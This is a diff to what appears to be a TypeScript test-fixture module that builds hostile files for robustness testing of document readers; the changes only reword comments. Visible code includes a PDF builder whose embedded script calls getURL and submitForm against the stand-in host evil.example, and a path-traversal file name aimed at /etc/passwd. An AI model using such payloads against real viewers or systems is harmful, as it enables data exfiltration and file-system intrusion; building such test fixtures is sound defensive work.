@@ -11,7 +11,7 @@ const sheets = `xmlns="${schemas}/spreadsheetml/2006/main" xmlns:r="${schemas}/o
 const wordType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
 const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
 
-/** Files that end other readers, or try to leave theirs; each is built when it is asked for, since some are large. */
+/** Files that crash other readers, or try to break out of them. Each file is built when it is needed, because some are large. */
 export function* hostileFiles(): Generator<HostileFile> {
   yield* hostileWordFiles();
   yield* hostileWorkbooks();
@@ -193,7 +193,10 @@ function* hostilePdfs(): Generator<HostileFile> {
   };
 }
 
-/** A pdf of two pages that tries to run scripts, to start programs, and to reach `https://evil.example` in every way a viewer may follow. */
+/**
+ * A two-page PDF that tries to run scripts, to start programs, and to reach `https://evil.example` in every way that a viewer
+ * might follow.
+ */
 export function actingPdf(): Uint8Array {
   const evil = 'https://evil.example';
   const script = `app.alert('pdf'); this.getURL('${evil}/script'); this.submitForm('${evil}/form');`;
@@ -239,7 +242,7 @@ function* mixedFiles(): Generator<HostileFile> {
   yield { what: 'a zip that ends as a pdf, named pdf', name: 'reversed.pdf', bytes: reversed };
 }
 
-/** Names of ordinary texts. */
+/** Hostile file names for ordinary texts. */
 export const hostileNames = (): string[] => [
   `${'n'.repeat(4_000)}.txt`,
   '../../etc/passwd.txt',
